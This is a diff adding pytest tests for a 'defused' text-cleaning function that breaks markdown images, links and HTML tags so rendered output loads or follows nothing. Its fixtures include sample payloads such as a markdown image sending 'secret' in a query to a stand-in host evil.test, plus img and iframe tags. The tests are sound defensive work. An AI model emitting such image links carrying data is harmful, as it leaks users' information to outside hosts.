@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from leadline.text.clean import neutralise, squeeze
+from leadline.text.clean import defused, neutralise, squeeze
 from leadline.text.spans import locate
 
 
@@ -86,3 +86,38 @@ def test_squeeze_keeps_the_limit(text: str, limit: int) -> None:
     shown = squeeze(text, limit=limit)
     assert len(shown) <= limit
     assert "\n" not in shown
+
+
+@pytest.mark.parametrize(
+    ("live", "dead"),
+    [
+        ("![x](https://evil.test/?q=secret)", "!\u2045x]\ufe59https://evil.test/?q=secret)"),
+        ("[read on](https://evil.test/)", "[read on]\ufe59https://evil.test/)"),
+        ("[![i](a.png)](b)", "[!\u2045i]\ufe59a.png)]\ufe59b)"),
+        ("![x][ref]\n\n[ref]: https://evil.test/", "!\u2045x][ref]\n\n\u2045ref]: https://evil.test/"),
+        ("> [ref]: //evil.test", "> \u2045ref]: //evil.test"),
+        ("<img src=//evil.test>", "\u2039img src=//evil.test>"),
+        ("<IFRAME src=x></iframe>", "\u2039IFRAME src=x>\u2039/iframe>"),
+        ("<https://evil.test/>", "\u2039https://evil.test/>"),
+        ("a[i][j] (of 3) and x < y!", "a[i][j] (of 3) and x < y!"),
+    ],
+)
+def test_nothing_is_loaded_or_followed(live: str, dead: str) -> None:
+    assert defused(live) == dead
+    assert defused(dead) == dead
+
+
+@given(st.text(alphabet="![](<>:/ \nabimgsrc\u2045\ufe59", max_size=60))
+def test_defusing_is_idempotent_and_keeps_lengths(text: str) -> None:
+    once = defused(text)
+    assert defused(once) == once
+    assert len(once) == len(text)
+    assert "![" not in once
+    assert "](" not in once
+
+
+def test_a_defused_quotation_is_still_located() -> None:
+    text = "See the ![map](https://a.test/map.png) of the harbour."
+    found = locate(defused("the ![map](https://a.test/map.png) of"), text)
+    assert found is not None
+    assert text[found.start : found.end] == "the ![map](https://a.test/map.png) of"
